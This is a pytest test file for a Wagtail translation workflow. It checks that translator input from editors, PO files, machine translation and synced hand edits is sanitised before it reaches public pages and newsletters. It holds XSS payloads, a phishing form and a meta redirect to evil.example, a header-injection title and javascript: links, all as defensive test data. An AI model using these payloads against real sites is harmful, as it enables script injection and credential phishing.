"""Every way a translation is stored cleans it: the editor's string API, a PO upload, machine
translation and hand edits read back on sync. And what reaches reviewers, visitors and
subscribers (the draft revision, the public page, the newsletter e-mail) carries none of it.

The German translator works over HTTP as the editor does; staff approve through the workflow.
"""

import json
import threading
from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import parse_qs, urlencode

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from wagtail.models import Page
from wagtail_localize.machine_translators.deepl import DeepLTranslator
from wagtail_localize.models import (
    OverridableSegment,
    SegmentOverride,
    StringSegment,
    StringTranslation,
)

import polib
import pytest

from newsletters.sending.rendering import render_edition
from tests.factories.network import NewsIndexPageFactory, NewsPageFactory
from tests.factories.newsletters import NewsletterIndexPageFactory, NewsletterPageFactory
from tests.translation.conftest import body, translate_all
from tests.translation.test_review import approve, public_text, submit, translation_of
from translation.groups import setup_translator_groups
from translation.sync import harvest_manual_edits

pytestmark = pytest.mark.django_db

PAYLOAD = "Text <!--x--!><img src=x onerror=\"document.title='XSS-'+document.domain\">-->"
REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example/">Weiter'
FORM = '<form action="https://evil.example/login"><input name="pw">Anmelden</form>'


def hostile(html: str) -> list[str]:
    """What in `html` would run or send the reader elsewhere."""
    lowered = html.lower()
    return [
        marker
        for marker in ("onerror", '<img src="x"', "<img src=x", "http-equiv", "evil.example")
        if marker in lowered
    ]


@pytest.fixture
def people(home_page, german_home, make_user):
    report = setup_translator_groups()
    return {
        "anna": make_user("anna", report.translator_groups["de"]),
        "carla": make_user("carla", report.staff_group),
    }


@pytest.fixture
def anna(people) -> Client:
    client = Client()
    client.force_login(people["anna"])
    return client


@pytest.fixture
def german_news(home_page, people, locales):
    """A news item with a body of rich text, translated into German and published by staff."""
    index = NewsIndexPageFactory(parent=home_page)
    translate_all(index, locales["de"], people["carla"])
    news = NewsPageFactory(parent=index, title="Meeting held", lead="Partners met")
    news.body = body(home_page)
    news.save_revision().publish()
    german = translate_all(news, locales["de"], people["carla"])
    return news, german


def segment_starting(translation, text: str) -> StringSegment:
    """The string segment of `translation` whose source text starts with `text`."""
    return StringSegment.objects.select_related("string", "context").get(
        source=translation.source, string__data__startswith=text
    )


def put_string(client: Client, translation, segment: StringSegment, value: str):
    url = f"/admin/localize/translate/{translation.pk}/strings/{segment.pk}/edit/"
    return client.put(
        url, urlencode({"value": value}), content_type="application/x-www-form-urlencoded"
    )


def stored(translation, segment: StringSegment) -> str:
    return StringTranslation.objects.get(
        translation_of=segment.string,
        context=segment.context,
        locale=translation.target_locale,
    ).data


def test_the_issues_payload_through_the_string_api_reaches_no_reviewer_or_visitor(
    anna, people, german_news, locales, django_capture_on_commit_callbacks
):
    news, german = german_news
    translation = translation_of(news, locales["de"])
    segment = segment_starting(translation, "Teachers meet")

    response = put_string(anna, translation, segment, f'{PAYLOAD} <a id="a1">Zentren</a>')
    assert response.status_code == 200
    assert response.json()["error"] is None
    assert stored(translation, segment) == 'Text --&gt; <a id="a1">Zentren</a>'

    with django_capture_on_commit_callbacks(execute=True):
        submit(anna, translation)
    draft = Page.objects.get(pk=german.pk).get_latest_revision()
    assert "Zentren" in json.dumps(draft.content)
    assert hostile(json.dumps(draft.content)) == []

    approve(Page.objects.get(pk=german.pk), people["carla"])
    html = public_text(german.url)
    assert "Text --&gt;" in html
    assert hostile(html) == []


def test_a_title_with_line_breaks_becomes_one_line(anna, german_news, locales):
    news, german = german_news
    translation = translation_of(news, locales["de"])
    title = StringSegment.objects.get(source=translation.source, context__path="title")
    response = put_string(anna, translation, title, "Treffen\r\nBcc: alle@example.org")
    assert response.status_code == 200
    assert stored(translation, title) == "Treffen Bcc: alle@example.org"
    assert Page.objects.get(pk=german.pk).draft_title == "Treffen Bcc: alle@example.org"


def test_a_plain_text_field_keeps_text_only(anna, german_news, locales):
    news, _german = german_news
    translation = translation_of(news, locales["de"])
    lead = StringSegment.objects.get(source=translation.source, context__path="lead")
    assert put_string(anna, translation, lead, f"<b>Partner</b> {FORM}").status_code == 200
    assert stored(translation, lead) == "Partner Anmelden"


def test_a_po_upload_is_cleaned_like_the_editor(anna, german_news, locales):
    news, _german = german_news
    translation = translation_of(news, locales["de"])
    base = f"/admin/localize/translate/{translation.pk}/pofile/"
    po = polib.pofile(anna.get(f"{base}download/").content.decode())
    for entry in po:
        if entry.msgid.startswith("Teachers meet"):
            entry.msgstr = f"{PAYLOAD} {REFRESH}"
        elif entry.msgctxt == "title":
            entry.msgstr = "Treffen\nzweite Zeile"
    upload = SimpleUploadedFile("de.po", str(po).encode(), content_type="text/x-gettext")
    response = anna.post(f"{base}upload/", {"file": upload, "next": "/admin/"})
    assert response.status_code == 302

    assert stored(translation, segment_starting(translation, "Teachers meet")) == (
        "Text --&gt; Weiter"
    )
    title = StringSegment.objects.get(source=translation.source, context__path="title")
    assert stored(translation, title) == "Treffen zweite Zeile"


class HostileDeepL(BaseHTTPRequestHandler):
    """A machine-translation service answering like DeepL's /v2/translate with markup."""

    def do_POST(self):
        form = parse_qs(self.rfile.read(int(self.headers["Content-Length"])).decode())
        texts = [f"{PAYLOAD} {FORM}" for _text in form["text"]]
        body = json.dumps({"translations": [{"text": text} for text in texts]})
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(body.encode())

    def log_message(self, *args):
        pass


@pytest.fixture
def hostile_deepl(monkeypatch, settings):
    server = HTTPServer(("127.0.0.1", 0), HostileDeepL)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_port}/v2/translate"
    monkeypatch.setattr(DeepLTranslator, "get_api_endpoint", lambda self: url)
    settings.WAGTAILLOCALIZE_MACHINE_TRANSLATOR = {
        "CLASS": "wagtail_localize.machine_translators.deepl.DeepLTranslator",
        "OPTIONS": {"AUTH_KEY": "test-key"},
    }
    yield
    server.shutdown()


def test_machine_translation_is_cleaned(hostile_deepl, people, german_news, locales):
    news, _german = german_news
    translation = translation_of(news, locales["de"])
    StringTranslation.objects.filter(locale=locales["de"]).delete()
    staff = Client()
    staff.force_login(people["carla"])
    url = reverse("wagtail_localize:machine_translate", args=[translation.pk])
    assert staff.post(url, {"next": "/admin/"}).status_code == 302

    machine = StringTranslation.objects.filter(locale=locales["de"])
    assert machine.count() == StringSegment.objects.filter(source=translation.source).count()
    for data in machine.values_list("data", flat=True):
        assert data == "Text --&gt; Anmelden"


def test_hand_edits_read_back_on_sync_are_cleaned(german_news, locales):
    news, german = german_news
    translation = translation_of(news, locales["de"])
    german = Page.objects.get(pk=german.pk).specific
    raw = json.loads(json.dumps(list(german.body.raw_data)))
    paragraph = next(block for block in raw if block["type"] == "paragraph")
    paragraph["value"] = f"<p>{PAYLOAD}</p>"
    german.body = raw
    german.save_revision()

    assert harvest_manual_edits(translation) == 1
    assert stored(translation, segment_starting(translation, "Teachers meet")) == "Text --&gt;"


@pytest.fixture
def german_newsletter(home_page, people, locales):
    archive = NewsletterIndexPageFactory(parent=home_page)
    translate_all(archive, locales["de"], people["carla"])
    issue = NewsletterPageFactory(parent=archive, title="Spring issue")
    german = translate_all(issue, locales["de"], people["carla"])
    return issue, german


def test_the_german_newsletter_mails_no_markup_a_translator_added(anna, german_newsletter, locales):
    issue, _german = german_newsletter
    translation = translation_of(issue, locales["de"])
    segment = segment_starting(translation, "Read")
    value = f'{PAYLOAD} {REFRESH} {FORM} <a id="a1">den Bericht</a>'
    assert put_string(anna, translation, segment, value).status_code == 200
    submit(anna, translation)

    edition = render_edition(issue.edition_page("de", draft=True), "de")
    assert "den Bericht" in edition.html
    assert hostile(edition.html) == []
    assert "<form" not in edition.html.lower()


def override_url(translation, segment: OverridableSegment) -> str:
    return f"/admin/localize/translate/{translation.pk}/overrides/{segment.pk}/edit/"


@pytest.mark.parametrize(
    "address",
    ["javascript:alert(document.domain)", "java&#x09;script:alert(1)", " JAVASCRIPT:alert(1)"],
)
def test_a_link_override_that_runs_code_is_refused(anna, german_newsletter, locales, address):
    issue, _german = german_newsletter
    translation = translation_of(issue, locales["de"])
    for segment in OverridableSegment.objects.filter(source=translation.source):
        response = anna.put(
            override_url(translation, segment),
            urlencode({"value": address}),
            content_type="application/x-www-form-urlencoded",
        )
        assert response.status_code == 400, segment.context.path
    assert not SegmentOverride.objects.exists()


def test_a_link_override_to_a_german_page_is_kept(anna, german_newsletter, locales):
    issue, _german = german_newsletter
    translation = translation_of(issue, locales["de"])
    for segment in OverridableSegment.objects.filter(source=translation.source):
        response = anna.put(
            override_url(translation, segment),
            urlencode({"value": "https://example.de/bericht"}),
            content_type="application/x-www-form-urlencoded",
        )
        assert response.status_code in (200, 201), segment.context.path
    assert SegmentOverride.objects.count() == 2  # the paragraph's link and the button's
